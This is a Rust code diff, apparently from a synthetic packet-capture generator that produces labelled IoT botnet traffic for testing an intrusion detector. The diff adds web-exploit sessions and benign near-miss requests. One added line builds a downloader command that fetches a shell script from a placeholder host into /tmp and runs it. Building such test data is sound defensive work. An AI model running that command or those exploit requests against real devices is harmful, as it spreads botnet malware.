@@ -21,7 +21,7 @@ const MIRAI_REPLY: &[u8] =
 pub type Truth = Vec<(&'static str, Ipv4Addr)>;
 
 /// The kinds of labelled attack, in the order they take turns.
-pub const ATTACK_KINDS: usize = 16;
+pub const ATTACK_KINDS: usize = 18;
 
 /// A client's clear KEXINIT packet (libssh2-like lists), after its identification.
 fn ssh_kexinit() -> Vec<u8> {
@@ -259,6 +259,47 @@ fn attack(cap: &mut Capture, rng: &mut Rng, n: u64, t: f64) {
                 cap.frame(t + f64::from(i) / 160.0, &syn);
             }
             cap.truth.push(("ssh-scan", bot));
+        }
+        16 => {
+            // A web exploit of the table, each in turn, carrying a downloader, and
+            // the device's answer.
+            let names = crate::exploits::NAMES;
+            let turn = (n / ATTACK_KINDS as u64) as usize;
+            let name = names
+                .get(turn % names.len())
+                .copied()
+                .unwrap_or("jaws-shell");
+            let cmd = format!("cd /tmp; wget http://203.0.113.253/{name}.sh; sh {name}.sh");
+            let (dport, request) = crate::exploits::request(name, &cmd);
+            tcp_session(
+                cap,
+                (bot, port),
+                (victim, dport),
+                &[
+                    (true, &request),
+                    (false, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
+                ],
+                t,
+            );
+            cap.truth.push(("iot-web-exploit", bot));
+        }
+        17 => {
+            // Near misses: ordinary requests to the same services (no alert).
+            let misses = crate::exploits::near_misses();
+            let turn = (n / ATTACK_KINDS as u64) as usize;
+            let Some((dport, request)) = misses.get(turn % misses.len()) else {
+                return;
+            };
+            tcp_session(
+                cap,
+                (bot, port),
+                (victim, *dport),
+                &[
+                    (true, request),
+                    (false, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
+                ],
+                t,
+            );
         }
         _ => {
             // A plain telnet scanner (seq is not the destination).
